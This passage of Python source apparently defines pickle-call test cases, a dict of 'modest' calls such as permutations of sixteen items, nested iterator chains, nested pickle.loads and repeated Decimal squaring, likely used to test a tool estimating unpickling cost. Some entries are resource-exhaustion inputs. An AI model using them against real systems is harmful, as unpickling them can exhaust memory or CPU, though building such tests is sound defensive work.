    "numpy": C(G("numpy", "zeros"), (MUCH, 1000)),
}

# The same functions with what they take in a moment: never told as exhausting.
def chains_in_chains(deep, wide):
    """Iterators that are shared: wide ** deep of them, to who follows each."""
    value = it("chain")
    for _ in range(deep):
        value = it("chain", *[value] * wide)
    return value


def squared(value, times):
    for _ in range(times):
        value = op("mul", value, value)
    return value


MODEST = {
    "rotate_least": after(C(G("collections", "deque"), [1, 2, 3]), call("rotate", -2**63)),
    "round_least": C(builtin("round"), -2**63, -1),
    "range_least": C(G("random", "randrange"), -2**63),
    "loads_in_loads": (lambda pickles: C(builtin("list"), C(builtin("map"), LOADS, pickles)))([pickle_of(C(LOADS, pickle_of(C(LOADS, b"N."))))] * 1000),
    "decimal_squared": C(builtin("int"), squared(C(G("decimal", "Decimal"), "0.1"), 62)),
    "orders_many": it("permutations", list(range(16))),
    "shared": C(builtin("list"), chains_in_chains(6, 60)),
    "many": [C(builtin("bytearray"), b"%d" % n) for n in range(80000)],
    "bytes": C(builtin("bytes"), 100),
    "list_range": C(builtin("list"), C(builtin("range"), 100)),
    "range_back": C(builtin("list"), C(builtin("range"), 0, MUCH, -1)),
    "islice": C(builtin("list"), it("islice", it("count"), 5)),
    "zipped": C(builtin("dict"), C(builtin("zip"), it("count"), [1, 2])),
    "repeat": C(builtin("list"), it("repeat", 1, 3)),
    "count": it("count"),
    "pow": C(builtin("pow"), 7, MUCH, 5),
    "pow_one": C(builtin("pow"), 1, MUCH),
    "lshift": op("lshift", 0, 2**40),
    "mul": op("mul", "x", -MUCH),
    "mul_number": op("mul", MUCH, MUCH),
    "mul_empty": op("mul", "", MUCH),
    "center": method("x", "center", 8),
    "format": C(builtin("format"), 2147483647, "12d"),
    "percent": op("mod", "2147483647 %d", 1),
    "deque": C(G("collections", "deque"), [1, 2], MUCH),
    "numpy": C(G("numpy", "zeros"), (1000, 1000)),
}
